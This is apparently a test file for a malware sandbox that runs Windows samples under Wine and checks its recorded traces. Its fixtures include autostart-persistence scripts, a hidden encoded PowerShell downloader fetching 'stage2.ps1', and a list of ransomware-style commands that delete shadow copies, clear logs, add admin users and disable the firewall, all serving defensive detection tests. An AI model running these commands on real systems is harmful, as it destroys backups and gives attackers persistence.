"""Each kind of file that Windows starts, and each stand-in for a program that Wine lacks."""

from __future__ import annotations

import base64

import pytest

from lazaretto.domain.trace import Cause, Ending, Source

pytestmark = pytest.mark.machine("windows")

JS = r"""
var shell = new ActiveXObject("WScript.Shell"), files = new ActiveXObject("Scripting.FileSystemObject");
var f = files.CreateTextFile("C:\\users\\Public\\by-script", true);
f.WriteLine("from a script");
f.Close();
shell.RegWrite("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Script", "wscript.exe x.js", "REG_SZ");
var web = new ActiveXObject("MSXML2.XMLHTTP");
web.open("GET", "http://cdn.example.net/config.json", false);
web.send();
shell.Run("cmd.exe /c exit 3", 0, true);
WScript.Sleep(120000);
WScript.Quit(7);
"""
VBS = r"""
Set shell = CreateObject("WScript.Shell")
Set files = CreateObject("Scripting.FileSystemObject")
Set f = files.CreateTextFile("C:\users\Public\by-script", True)
f.WriteLine "from a script"
f.Close
shell.RegWrite "HKCU\Software\Microsoft\Windows\CurrentVersion\Run\Script", "wscript.exe x.js", "REG_SZ"
Set web = CreateObject("MSXML2.XMLHTTP")
web.open "GET", "http://cdn.example.net/config.json", False
web.send
shell.Run "cmd.exe /c exit 3", 0, True
WScript.Sleep 120000
WScript.Quit 7
"""
WSF = f'<job><script language="JScript"><![CDATA[{JS}]]></script></job>'
SCRIPTS = {"js": JS, "vbs": VBS, "wsf": WSF}


@pytest.fixture(scope="module", params=SCRIPTS)
def script(request, windows, programs):
    return windows(programs.file(f"invoice.{request.param}", SCRIPTS[request.param]), request.param)


def test_script(script):
    assert script.ending is Ending.EXITED, script.story()
    steps = [
        script.one("file.create", path=lambda path: path.endswith("by-script")),
        script.one("registry.set", name="Script", data="wscript.exe x.js"),
        script.one("autostart", mechanism="run-key"),
        script.one("net.dns", name="cdn.example.net"),
        script.one("net.http", url="http://cdn.example.net/config.json"),
        script.one("process.start", command_line=lambda line: line.endswith("/c exit 3")),
    ]
    assert [step.id for step in steps] == sorted(step.id for step in steps), script.story()
    assert script.process("invoice.").exit_code == 7
    assert script.trace.guest_time > 120
    assert script.dropped(r"C:\users\Public\by-script").rstrip() == b"from a script"


def test_script_is_not_drowned_by_its_host(script):
    """What the script host does for every script is not the script's doing."""
    assert len(script.events("registry.set")) == 1, script.story()
    assert len(script.events()) < 120, script.story(400)


BAT = """@echo off
echo hello from a batch file
set WORD=secret
copy "%~f0" C:\\users\\Public\\copy.bat >nul
reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Batch /d C:\\users\\Public\\copy.bat /f
attrib +h C:\\users\\Public\\copy.bat
del C:\\users\\Public\\copy.bat
exit /b 7
"""


def test_batch(windows, programs):
    observed = windows(programs.file("run.bat", BAT.replace("\n", "\r\n")), "bat")
    assert observed.ending is Ending.EXITED, observed.story()
    assert "hello from a batch file" in observed.console
    assert observed.order("file.create", "registry.set", "autostart", "file.delete"), observed.story()
    assert observed.one(
        "process.start",
        command_line=lambda line: line.startswith("reg "),
        environment=lambda e: e.get("WORD") == "secret",
    )
    assert observed.process("run.bat").exit_code == 7


PAGE = """<html><head><script language="VBScript">
Set shell = CreateObject("WScript.Shell")
shell.Run "cmd.exe /c echo page> C:\\users\\Public\\by-page", 0, True
window.close
</script></head><body>Loading</body></html>"""


def test_html_application(windows, programs):
    observed = windows(programs.file("page.hta", PAGE), "hta")
    assert observed.process("mshta").cause is Cause.SAMPLE
    made = observed.one("file.create", path=lambda path: path.endswith("by-page"))
    assert observed.trace.processes[made.process].cause is Cause.CHILD
    assert observed.ending is Ending.EXITED, observed.story()


TEXT = "Invoke-WebRequest http://cdn.example.net/stage2.ps1 -OutFile $env:TEMP\\s.ps1"


def test_powershell_script(windows, programs):
    observed = windows(programs.file("run.ps1", TEXT), "ps1")
    assert TEXT in observed.one("process.start", script=lambda text: text != "").script, observed.story()


def test_powershell_command_is_decoded(windows, programs):
    encoded = base64.b64encode(TEXT.encode("utf-16-le")).decode()
    line = f"powershell -nop -w hidden -EncodedCommand {encoded}\r\n"
    observed = windows(programs.file("ps.bat", line), "bat")
    asked = observed.one("standin", program="powershell")
    assert asked.source is Source.STANDIN
    assert TEXT in observed.trace.events[asked.because[0]].script


def test_shortcut(windows, programs):
    link = programs.shortcut(
        "Photo.lnk", r"C:\windows\system32\cmd.exe", r"/c echo link> C:\users\Public\by-link & exit 4"
    )
    observed = windows(link, "lnk")
    assert observed.process("by-link").exit_code == 4, observed.story()
    assert observed.one("file.create", path=lambda path: path.endswith("by-link"))


def test_registry_file(windows, programs):
    text = (
        "Windows Registry Editor Version 5.00\r\n\r\n"
        "[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"
        '"Imported"="C:\\\\users\\\\Public\\\\x.exe"\r\n"Number"=dword:0000002a\r\n'
    )
    observed = windows(programs.file("add.reg", text), "reg")
    assert observed.one("registry.set", name="Imported", data=r"C:\users\Public\x.exe")
    assert observed.one("registry.set", name="Number", type="REG_DWORD")
    assert observed.one("autostart", mechanism="run-key")


PACKAGE = """
<Directory Id="TARGETDIR" Name="SourceDir"><Directory Id="ProgramFilesFolder"><Directory Id="PLACE" Name="Sample">
<Component Id="Tool" Guid="9D3A5F27-71C4-4E0B-B6A8-3C2E1F4D5A34">
<File Id="ToolFile" Name="tool.txt" Source="tool.txt" KeyPath="yes" />
<RegistryValue Root="HKLM" Key="Software\\Microsoft\\Windows\\CurrentVersion\\Run" Name="Installed" Type="string"
 Value="tool.exe" />
</Component></Directory></Directory></Directory>
<Feature Id="All" Level="1"><ComponentRef Id="Tool" /></Feature>
"""


def test_installer(windows, programs):
    observed = windows(programs.msi(PACKAGE, {"tool.txt": b"installed content"}), "msi")
    assert observed.ending is Ending.EXITED, observed.story()
    write = observed.one("file.write", path=lambda path: path.endswith(r"\Sample\tool.txt"))
    assert write.head == b"installed content"
    assert observed.one("registry.set", name="Installed", data="tool.exe")
    assert observed.one("autostart", mechanism="run-key")


ASSEMBLY = r"""
using System; using System.IO; using System.Net; using System.Diagnostics;
class Program {
    static int Main() {
        File.WriteAllText("managed.txt", "from managed code");
        new WebClient().DownloadString("http://cdn.example.net/managed");
        Console.WriteLine("hello from managed code");
        return 7;
    }
}
"""


def test_assembly(windows, programs):
    observed = windows(programs.assembly(ASSEMBLY, name="managed.exe"), "dotnet")
    assert observed.ending is Ending.EXITED, observed.story()
    assert "hello from managed code" in observed.console
    calls = {event.function for event in observed.events("api", source=Source.MANAGED)}
    assert any("WriteAllText" in call for call in calls), calls
    assert observed.one("net.http", url="http://cdn.example.net/managed")
    assert observed.one("file.write", head=b"from managed code")


STANDINS = {
    "vssadmin delete shadows /all /quiet": "delete-shadow-copies",
    "bcdedit /set {default} recoveryenabled no": "disable-recovery",
    "wbadmin delete catalog -quiet": "delete-backup",
    "wmic shadowcopy delete": "delete-shadow-copies",
    "wevtutil cl Security": "clear-log",
    "net user helper Passw0rd /add": "add-user",
    "net localgroup administrators helper /add": "add-group-member",
    "netsh advfirewall set allprofiles state off": "disable-firewall",
    "whoami /all": "",
}


def test_standins(windows, programs):
    text = "@echo off\r\n" + "\r\n".join(STANDINS) + "\r\n"
    observed = windows(programs.file("standins.bat", text), "bat")
    assert observed.ending is Ending.EXITED, observed.story()
    for line, action in STANDINS.items():
        asked = observed.one("standin", command_line=lambda told, line=line: told.split() == line.split())
        assert asked.source is Source.STANDIN
        assert not action or asked.action == action
        assert observed.trace.events[asked.because[0]].kind == "process.start"
    assert "claire" in observed.console.lower()


NOTHING = {
    "exe": lambda programs: programs.pe("int main(void) { return 0; }", name="nothing64.exe"),
    "exe32": lambda programs: programs.pe("int main(void) { return 0; }", bits=32, name="nothing32.exe"),
    "js": lambda programs: programs.file("nothing.js", "var x = 1;"),
    "vbs": lambda programs: programs.file("nothing.vbs", "x = 1"),
    "bat": lambda programs: programs.file("nothing.bat", "@rem\r\n"),
}


def is_start_of_compiled_program(event):
    """What the compiler's start-up code calls before main()."""
    return event.kind == "api" and event.function == "SetUnhandledExceptionFilter"


@pytest.mark.parametrize("kind", NOTHING)
def test_nothing_is_nearly_nothing(windows, programs, kind):
    """A program that does nothing has an account that says nothing: what is Wine's own stays out of it."""
    observed = windows(NOTHING[kind](programs), kind[:3])
    assert observed.ending is Ending.EXITED
    told = [event for event in observed.events() if not is_start_of_compiled_program(event)]
    assert {event.kind for event in told} <= {"process.start", "process.exit", "file.read", "file.list"}, (
        observed.story()
    )
    assert len(told) <= 6, observed.story()
    assert all("\\Downloads\\" in artifact.name for artifact in observed.artifacts("dropped"))
